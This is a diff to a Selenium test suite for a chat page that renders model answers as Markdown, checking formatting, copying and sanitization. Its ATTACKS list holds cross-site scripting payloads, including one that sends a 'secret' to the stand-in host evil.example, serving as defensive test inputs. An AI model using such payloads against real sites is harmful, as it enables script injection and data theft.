@@ -8,6 +8,7 @@ set. What the model never says (HTML, half an answer), a peer with the same page
 """
 
 import json
+import mimetypes
 import os
 import re
 import shutil
@@ -41,7 +42,7 @@ from selenium.webdriver.common.action_chains import ActionChains  # noqa: E402
 from selenium.webdriver.common.keys import Keys  # noqa: E402
 from selenium.webdriver.support.expected_conditions import alert_is_present  # noqa: E402
 
-PAGE = Path(__file__).parent.parent / "web" / "page.html"
+WEB = Path(__file__).parent.parent / "web"
 FLAGS = [
     "--headless=new",
     "--no-sandbox",
@@ -120,7 +121,9 @@ def peer(*events):
 
     class Handler(BaseHTTPRequestHandler):
         def do_GET(self):
-            self.reply("text/html", [PAGE.read_bytes()])
+            file = WEB / (self.path.lstrip("/") or "page.html")
+            kind = mimetypes.guess_type(file)[0] if file.is_file() else "text/plain"
+            self.reply(kind, [file.read_bytes() if file.is_file() else b""])
 
         def do_POST(self):
             self.rfile.read(int(self.headers["Content-Length"]))
@@ -325,16 +328,176 @@ def test_the_enter_that_ends_an_input_methods_choice_sends_nothing(page):
 def test_html_that_one_types_is_shown_as_text_and_runs_nothing(page):
     answer(page, HTML)
     assert said(page, "user") == [HTML]
-    assert not page.find_elements("css selector", "#talk p *")
+    assert not page.find_elements("css selector", ".user *")
     assert page.execute_script("return window.hacked") is None
 
 
-def test_html_that_a_model_writes_is_shown_as_text_and_runs_nothing(driver):
-    with peer(": ping", event(HTML + "好"), event("👩‍🚀"), "data: [DONE]") as url:
+@contextmanager
+def answered(driver, text, end="data: [DONE]"):
+    """The page after an answer that came a few characters at a time."""
+    pieces = [event(text[i : i + 3]) for i in range(0, len(text), 3)]
+    with peer(": ping", *pieces, end) as url:
         driver.get(url)
-        assert answer(driver, "Hello") == HTML + "好👩‍🚀" and not said(driver, "note")
-        assert not driver.find_elements("css selector", "#talk p *")
+        answer(driver, "Hello")
+        yield
+
+
+def parts(driver, selector, name="textContent"):
+    """Of the answer: that property of each element that the selector names."""
+    return driver.execute_script(
+        "return [...document.querySelectorAll(arguments[0])].map(one => one[arguments[1]])",
+        f"#talk .assistant {selector}",
+        name,
+    )
+
+
+def test_html_that_a_model_writes_is_shown_as_text_and_runs_nothing(driver):
+    with answered(driver, HTML + "好👩‍🚀"):
+        assert said(driver) == [HTML + "好👩‍🚀"] and not said(driver, "note")
+        assert set(parts(driver, "*", "tagName")) == {"DIV", "P"}
         assert driver.execute_script("return window.hacked") is None
+
+
+ATTACKS = [
+    HTML,
+    "<svg onload=hack()>\n\n<iframe src=javascript:hack()></iframe>",
+    "[a](javascript:hack())\n[b](data:text/html,<script>hack()</script>)\n[c](JaVaScRiPt&#58;hack())",
+    "<javascript:hack()>\n\n[d]\n\n[d]: javascript:hack() 'title'",
+    '![x](https://evil.example/?secret)\n\n![x](x"onerror="hack())',
+    '[e](https://a.example/"onmouseover="hack())\n\n```x" onclick="hack()\ncode\n```',
+    "| <img src=x onerror=hack()> |\n|---|\n| <b onclick=hack()>b</b> |",
+    "$<img src=x onerror=hack()>$\n\n$$\n<script>hack()</script>\n$$",
+    "<style>* { display: none }</style>\n\n<form action=https://evil.example><input name=a>",
+    "- [x] <details ontoggle=hack() open>\n\n&lt;script&gt;hack()&lt;/script&gt;",
+    "\\<img src=x onerror=hack()>\n\n`<script>hack()</script>`",
+    "<math><mtext><table><mglyph><style><img src=x onerror=hack()>",
+]
+
+
+@pytest.mark.parametrize("text", ATTACKS)
+def test_a_hostile_answer_runs_and_loads_nothing(driver, text):
+    with answered(driver, text):
+        driver.execute_script("window.hack = () => window.hacked = true")
+        driver.execute_script("""for (const one of document.querySelectorAll(".assistant *"))
+            for (const kind of ["click", "mouseover", "load", "error", "toggle"])
+                one.dispatchEvent(new Event(kind, { bubbles: true, cancelable: true }));""")
+        assert driver.execute_script("return window.hacked") is None
+        names = {name.lower() for name in parts(driver, "*", "tagName")}
+        assert names <= {"div", "p", "a", "br", "code", "pre", "button", "ul", "li", "span"} | {
+            *("table", "thead", "tbody", "tr", "th", "td")
+        }
+        assert all(link.startswith("https://") for link in parts(driver, "a", "href") if link)
+        loaded = driver.execute_script(
+            "return performance.getEntriesByType('resource').map(one => one.name)"
+        )
+        here = driver.execute_script("return location.origin")
+        assert all(name.startswith(here) for name in loaded)
+
+
+def test_without_the_cleaning_the_browser_itself_runs_nothing_of_an_answer(driver):
+    """The page's own policy forbids it."""
+    with answered(driver, "hi"):
+        driver.execute_script("document.querySelector('.assistant').innerHTML = arguments[0]", HTML)
+        driver.execute_async_script("setTimeout(arguments[0], 300)")
+        assert driver.execute_script("return window.hacked") is None
+
+
+MARKDOWN = """# Title
+
+Some **bold** words, `code`,
+a [link](https://example.com/a?b=1&c=2) and https://example.org/?x=1&y=2
+
+1. one
+2. two
+   - [x] three
+
+```python
+if a < b:
+    print("<^>")
+```
+
+| name | value |
+|:-----|------:|
+| top_p | 0.7 |
+
+Math: $a_1 * b_2 * c_3$, \\(x_i\\), for $5 and $6.
+
+$$
+E = mc^2 \\\\
+- 1
+$$
+"""
+
+
+def test_markdown_is_drawn(driver):
+    with answered(driver, MARKDOWN):
+        assert parts(driver, "h1") == ["Title"]
+        assert parts(driver, "strong") == ["bold"]
+        assert parts(driver, "p code") == ["code"]
+        assert parts(driver, "p br") == [""]  # a line end stays one
+        assert parts(driver, "a") == ["link", "https://example.org/?x=1&y=2"]
+        assert parts(driver, "a", "href")[0] == "https://example.com/a?b=1&c=2"
+        shown = said(driver)[-1]
+        assert "link (https://example.com/a?b=1&c=2)" in shown  # where it leads
+        assert shown.count("https://example.org") == 1
+        assert parts(driver, "ol > li") == ["one", "two\n☑ three\n\n"]
+        assert parts(driver, "pre code") == ['if a < b:\n    print("<^>")\n']
+        assert parts(driver, "td", "align") == ["left", "right"]
+        assert parts(driver, ".verbatim") == [
+            "$a_1 * b_2 * c_3$",
+            "\\(x_i\\)",
+            "$$\nE = mc^2 \\\\\n- 1\n$$",
+        ]
+        assert "for $5 and $6." in shown
+
+
+def test_the_copy_button_copies_the_code_and_the_model_gets_its_own_words_back(driver):
+    with answered(driver, MARKDOWN):
+        posted(driver)
+        origin = driver.execute_script("return location.origin")
+        driver.execute_cdp_cmd(
+            "Browser.grantPermissions",
+            {"origin": origin, "permissions": ["clipboardReadWrite", "clipboardSanitizedWrite"]},
+        )
+        driver.find_element("css selector", ".copy").click()
+        copied = "navigator.clipboard.readText().then(arguments[0])"
+        wanted = 'if a < b:\n    print("<^>")\n'
+        until(lambda: driver.execute_async_script(copied) == wanted)
+        answer(driver, "And?")
+        assert posted(driver)[-1]["history"] == [["Hello", MARKDOWN]]
+
+
+def test_the_copy_button_works_without_the_browsers_clipboard_too(driver):
+    """As on a machine that is reached over plain HTTP."""
+    with answered(driver, MARKDOWN):
+        driver.execute_script(
+            "Object.defineProperty(navigator, 'clipboard', { value: undefined });"
+            "document.addEventListener('copy', () => window.copied = String(getSelection()))"
+        )
+        driver.find_element("css selector", ".copy").click()
+        copied = until(lambda: driver.execute_script("return window.copied"))
+        assert copied.strip() == 'if a < b:\n    print("<^>")'
+
+
+def test_what_is_selected_in_a_finished_block_stays_selected(driver):
+    steady, more = ["first block\n\n"], ["more "] * 300
+    with peer(*map(event, steady + more), "data: [DONE]") as url:
+        driver.get(url)
+        say(driver, "Hello")
+        until(lambda: len(parts(driver, "> div")) == 2)
+        select = "getSelection().selectAllChildren(document.querySelector('.assistant p'))"
+        driver.execute_script(select)
+        until(lambda: not answering(driver))
+        assert driver.execute_script("return String(getSelection())") == "first block"
+
+
+@pytest.mark.parametrize("text", ["> " * 6000, "_a" * 4000])
+def test_a_text_that_is_hard_to_draw_does_not_stop_the_page(driver, text):
+    events = [event(text[i : i + 8]) for i in range(0, len(text), 8)]
+    with peer(*events, event("the end"), "data: [DONE]") as url:
+        driver.get(url)
+        assert answer(driver, "Hello").rstrip().endswith("the end")
+        assert not said(driver, "note")
 
 
 @pytest.mark.parametrize(
@@ -378,10 +541,15 @@ def test_nothing_overflows_a_narrow_screen(page):
     )
     answer(page, "https://example.com/" + "long" * 30)
     assert page.execute_script("return innerWidth") == 360
+    page.execute_script(
+        "drawMarkdown(document.querySelector('.assistant'), arguments[0], 'Copy', true)",
+        MARKDOWN + "\n| " + "long | " * 40 + "\n|" + "-|" * 40 + "\n\n```\n" + "long " * 90,
+    )
     assert (
         page.execute_script("""return [...document.querySelectorAll("*")].filter(one =>
         one.getBoundingClientRect().right > 360 || one.getBoundingClientRect().left < 0
-        || one.scrollWidth > one.offsetWidth).map(one => one.outerHTML)""")
+        || one.scrollWidth > one.offsetWidth).filter(one => !one.closest("pre, table"))
+        .map(one => one.outerHTML)""")
         == []
     )
 
